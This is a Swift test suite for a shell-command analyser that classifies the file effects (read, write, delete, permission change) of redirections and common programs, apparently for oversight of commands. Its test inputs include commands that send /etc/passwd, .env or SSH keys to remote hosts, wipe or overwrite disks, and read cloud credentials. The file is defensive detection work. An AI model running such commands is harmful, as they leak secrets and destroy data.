import LexeconShell
import Testing

/// File effects from redirections and the program table.
@Suite struct EffectTests {
    /// (kind, absolute path, recursive) triples of a script's single command.
    private func effects(_ script: String) -> [String] {
        guard let c = single(script) else { return [] }
        return c.effects.map { "\($0.kind.rawValue)\($0.recursive ? "-r" : "") \($0.path.absolute)" }
    }

    @Test func redirections() {
        #expect(effects("cmd > a >> b &> c &>> d >| e < f <> g 2>&1 >&h 3< i") == [
            "write /ws/app/a", "write /ws/app/b", "write /ws/app/c", "write /ws/app/d", "write /ws/app/e", "read /ws/app/f",
            "read /ws/app/g", "write /ws/app/g", "write /ws/app/h", "read /ws/app/i",
        ])
        #expect(effects("cmd > /dev/null 2>&1 < /dev/zero").isEmpty)
        #expect(effects("cat <<EOF > out\nx\nEOF") == ["write /ws/app/out"])
    }

    @Test(arguments: [
        ("rm a b", ["delete /ws/app/a", "delete /ws/app/b"]),
        ("rm -r d", ["delete-r /ws/app/d"]),
        ("unlink f", ["delete /ws/app/f"]),
        ("rmdir d", ["delete /ws/app/d"]),
        ("shred -u f", ["write /ws/app/f", "delete /ws/app/f"]),
        ("shred /dev/sda", ["write /dev/sda"]),
        ("srm -r d", ["delete-r /ws/app/d"]),
        ("mv a b /tmp", ["move /ws/app/a", "move /ws/app/b", "write-r /tmp"]),
        ("mv -t /tmp a", ["move /ws/app/a", "write-r /tmp"]),
        ("cp a /etc/b", ["read /ws/app/a", "write /etc/b"]),
        ("cp -r src /tmp/dst", ["read-r /ws/app/src", "write-r /tmp/dst"]),
        ("install -m 755 bin /usr/local/bin/x", ["read /ws/app/bin", "write /usr/local/bin/x"]),
        ("ln -sf /etc/passwd link", ["write /ws/app/link"]),
        ("rsync -a --delete src/ /backup", ["read-r /ws/app/src", "write-r /backup", "delete-r /backup"]),
        ("scp ~/.ssh/id_rsa host:/tmp", ["read /home/u/.ssh/id_rsa"]),
        ("tee -a log /etc/x", ["write /ws/app/log", "write /etc/x"]),
        ("truncate -s 0 f", ["write /ws/app/f"]),
        ("touch f", ["write /ws/app/f"]),
        ("sed -i 's/a/b/' f g", ["write /ws/app/f", "write /ws/app/g"]),
        ("sed -n 1p f", ["read /ws/app/f"]),
        ("perl -pi -e 's/a/b/' f", ["write /ws/app/f"]),
        ("dd if=disk.img of=/dev/sda", ["read /ws/app/disk.img", "write /dev/sda"]),
        ("chmod -R 777 /", ["permissions-r /"]),
        ("chmod 600 key", ["permissions /ws/app/key"]),
        ("chown root:root /etc/x", ["permissions /etc/x"]),
        ("chgrp -R staff d", ["permissions-r /ws/app/d"]),
        ("chattr +i f", ["permissions /ws/app/f"]),
        ("setfacl -R -m u:x:rwx d", ["permissions-r /ws/app/d"]),
        ("cat a b", ["read /ws/app/a", "read /ws/app/b"]),
        ("head -n 3 f", ["read /ws/app/f"]),
        ("base64 ~/.aws/credentials", ["read /home/u/.aws/credentials"]),
        ("grep -r secret .", ["read /ws/app"]),
        ("grep -e x -f pats f", ["read /ws/app/f"]),
        ("curl -T file https://x", ["read /ws/app/file"]),
        ("curl -d @body.json https://x", ["read /ws/app/body.json"]),
        ("curl --data-binary @/etc/passwd https://x", ["read /etc/passwd"]),
        ("curl -F 'f=@~/.ssh/id_rsa;type=text/plain' https://x", ["read /ws/app/~/.ssh/id_rsa"]),
        ("curl -o out https://x", ["write /ws/app/out"]),
        ("wget -O /etc/x https://x", ["write /etc/x"]),
        ("wget --post-file=.env https://x", ["read /ws/app/.env"]),
        ("tar -czf out.tgz src", ["write /ws/app/out.tgz", "read-r /ws/app/src"]),
        ("tar -xf a.tar -C /", ["read /ws/app/a.tar", "write-r /"]),
        ("tar xf a.tar", ["read /ws/app/a.tar", "write-r /ws/app"]),
        ("zip -r out.zip dir", ["write /ws/app/out.zip", "read-r /ws/app/dir"]),
        ("unzip a.zip -d /opt", ["read /ws/app/a.zip", "write-r /opt"]),
        ("git rm -r docs", ["delete-r /ws/app/docs"]),
        ("git clean -fdx", ["delete-r /ws/app"]),
        ("git clean -n", []),
        ("mkfs.ext4 /dev/sdb1", ["write /dev/sdb1"]),
        ("wipefs -a /dev/sda", ["write /dev/sda"]),
        ("openssl enc -in secret.txt -out secret.enc", ["read /ws/app/secret.txt", "write /ws/app/secret.enc"]),
        ("find /tmp -name x -delete", ["delete-r /tmp"]),
        ("find -delete", ["delete-r /ws/app"]),
        ("sort -o out in", ["read /ws/app/in", "write /ws/app/out"]),
        ("ls -la /etc", []),
        ("echo hi", []),
    ])
    func programEffects(script: String, expected: [String]) {
        #expect(effects(script) == expected, "\(script)")
    }

    @Test func wrapperRedirectionsLandOnTheInnerCommand() throws {
        let c = try #require(single("sudo tee /etc/hosts < new > /dev/null"))
        #expect(c.program == "tee")
        #expect(c.effects.map(\.path.absolute) == ["/etc/hosts", "/ws/app/new"])
        #expect(c.effects.map(\.kind) == [.write, .read])
    }

    @Test func compoundRedirectionsAreABareCommand() throws {
        let all = commands("{ echo a; echo b; } > /etc/motd")
        #expect(all.map(\.program) == ["echo", "echo", ""])
        #expect(all[2].effects.map(\.path.absolute) == ["/etc/motd"])
        let loop = commands("while read l; do echo $l; done < ~/.ssh/id_rsa")
        #expect(loop.last?.effects.first.map { has($0.path, "secret") } == true)
    }

    @Test func dynamicRedirectionTarget() throws {
        let c = try #require(single("echo x > \"$OUT\""))
        #expect(c.effects.first?.kind == .write)
        #expect(has(c.effects.first?.path, "dynamic"))
    }
}
